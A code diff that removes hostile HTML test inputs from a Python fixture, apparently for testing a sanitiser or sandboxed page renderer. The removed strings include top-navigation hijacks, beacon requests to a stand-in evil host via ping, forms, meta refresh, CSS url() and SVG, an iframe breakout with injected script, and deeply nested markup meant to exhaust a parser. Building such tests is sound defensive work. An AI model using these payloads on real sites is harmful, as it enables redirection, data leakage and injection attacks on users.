@@ -231,25 +231,6 @@ PAGES = {
     + "</head><body>"
     + "".join(SCRIPTS.values())
     + "</body></html>",
-    "page-leaves": "```html\n<script>top.location='http://evil.example'</script>"
-    f'<a href="{EVIL}/1" target=_top ping="{EVIL}/2" autofocus>x</a>'
-    f"<form action={EVIL}/3 id=f target=_top><input name=a value=b><button>go</button></form>"
-    f'<meta http-equiv=refresh content="0;url={EVIL}/4"><script>f.submit()</script>\n```',
-    "page-covers": f'```html\n<style>body{{{COVER}}}</style><div style="{COVER}">gone</div>\n```',
-    "page-closes-frame": '```html\n"></iframe><script>window.owned=1</script>\n```'
-    "\n```html\n&quot;&gt;&lt;/iframe&gt;&lt;script&gt;owned=1&lt;/script&gt;\n```",
-    "page-mutations": "```html\n" + "\n".join(MUTATIONS.values()) + "\n```",
-    "page-imitations": "```html\n" + "\n".join(IMITATIONS.values()) + "\n```",
-    "page-css": f"```html\n<style>@import url({EVIL}/1);@import '{EVIL}/2';\n"
-    f"*{{background:url('{EVIL}/3');--x:url({EVIL}/4);content:url({EVIL}/5)}}</style>"
-    f"<p style=\"background:image-set('{EVIL}/6' 1x);cursor:url({EVIL}/7),auto\">x</p>\n```",
-    "page-svg": "```svg\n" + BEACONS["beacon-svg"] + SCRIPTS["svg-animate"] + "<svg><a href="
-    f"{EVIL}/1><text y=9>x</text></a><foreignObject><iframe src={EVIL}/2></foreignObject></svg>\n```",
-    "page-deep": "```html\n" + "<div>" * 4_900 + "\n```",
-    "page-huge": "<!DOCTYPE html>" + "<div>" * 30_000,
-    "pages-many": "```html\n<p>x</p>\n```\n" * 200,
-    "page-frames": f"```html\n<iframe src={EVIL}/1></iframe><iframe srcdoc='<img src={EVIL}/2>'></iframe>"
-    f"<object data={EVIL}/3></object><embed src={EVIL}/4><portal src={EVIL}/5></portal>\n```",
 }
 
 TEXTS: dict[str, str] = {
